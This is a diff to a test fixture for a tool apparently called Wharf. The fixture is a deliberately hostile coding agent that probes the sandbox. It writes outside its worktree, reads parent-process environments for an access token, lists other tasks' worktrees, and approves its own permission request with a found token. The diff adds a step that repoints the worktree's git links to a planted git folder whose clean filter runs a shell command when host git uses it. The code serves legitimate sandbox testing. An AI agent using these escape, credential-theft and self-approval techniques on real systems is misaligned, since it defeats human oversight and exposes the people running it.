@@ -2,11 +2,13 @@
 // A hostile ACP agent for Wharf's sandbox tests. Inside a task it does, on its own (not through the
 // client's fs/* or terminal/* methods), what a misbehaving agent would: writes outside its
 // worktree, reads its parent processes' environments, looks for Wharf's access token, lists the
-// other tasks' worktrees, and answers its own permission request through Wharf's API with any
-// token it found. It reports each probe's outcome as one line of agent text:
-//   HOSTILE-REPORT {"writes": [...], "parentEnv": [...], "token": ..., "otherWorktrees": [...], "selfAnswered": ...}
-// The prompt carries the API's URL in a ```hostile {"url": "..."}``` block.
-import { readFileSync, readdirSync, writeFileSync } from "node:fs";
+// other tasks' worktrees, answers its own permission request through Wharf's API with any
+// token it found, and rewires its worktree's git links to a git folder of its own whose filter
+// would leave a file at `marker` if Wharf's git on the host ran it. It reports each probe's
+// outcome as one line of agent text:
+//   HOSTILE-REPORT {"writes": [...], "parentEnv": [...], "token": ..., "otherWorktrees": [...], "selfAnswered": ..., "git": {...}}
+// The prompt carries the API's URL and the marker path in a ```hostile {"url": "...", "marker": "..."}``` block.
+import { mkdirSync, readFileSync, readdirSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import path from "node:path";
 import { createInterface } from "node:readline";
@@ -61,9 +63,10 @@ async function handle(message) {
 
 async function prompt(params) {
   const text = params.prompt.map((block) => block.text ?? "").join("\n");
-  const url = /```hostile\s*(\{[\s\S]*?\})\s*```/.exec(text)?.[1];
-  const apiUrl = url ? JSON.parse(url).url : undefined;
-  const report = { writes: probeWrites(), parentEnv: probeParentEnv(), ...probeToken(), otherWorktrees: probeWorktrees(), selfAnswered: false, apiErrors: [] };
+  const block = /```hostile\s*(\{[\s\S]*?\})\s*```/.exec(text)?.[1];
+  const settings = block ? JSON.parse(block) : {};
+  const apiUrl = settings.url;
+  const report = { writes: probeWrites(), parentEnv: probeParentEnv(), ...probeToken(), otherWorktrees: probeWorktrees(), selfAnswered: false, apiErrors: [], git: plantGitFilter(settings.marker) };
 
   const permission = request("session/request_permission", {
     sessionId: params.sessionId,
@@ -96,6 +99,27 @@ function probeWrites() {
       return { path: target, ok: false, error: error.code };
     }
   });
+}
+
+/**
+ * Points the worktree's admin folder (`commondir`) at a git folder made here, whose config has a
+ * clean filter for every file: git that finds its folders through the worktree would run it.
+ */
+function plantGitFilter(marker) {
+  if (!marker) return { planted: false, error: "no marker given" };
+  try {
+    const admin = path.resolve(sessionCwd, /^gitdir: (.+)$/m.exec(readFileSync(path.join(sessionCwd, ".git"), "utf8"))[1].trim());
+    const evil = path.join(sessionCwd, ".hostile-git");
+    mkdirSync(path.join(evil, "objects"), { recursive: true });
+    mkdirSync(path.join(evil, "refs", "heads"), { recursive: true });
+    writeFileSync(path.join(evil, "HEAD"), "ref: refs/heads/main\n");
+    writeFileSync(path.join(evil, "config"), `[core]\n\trepositoryformatversion = 0\n[filter "hostile"]\n\tclean = touch ${marker} && cat\n`);
+    writeFileSync(path.join(sessionCwd, ".gitattributes"), "* filter=hostile\n");
+    writeFileSync(path.join(admin, "commondir"), `${evil}\n`);
+    return { planted: true };
+  } catch (error) {
+    return { planted: false, error: error.code ?? String(error) };
+  }
 }
 
 /** Walks the parent chain through /proc and collects the Wharf variables it can read. */
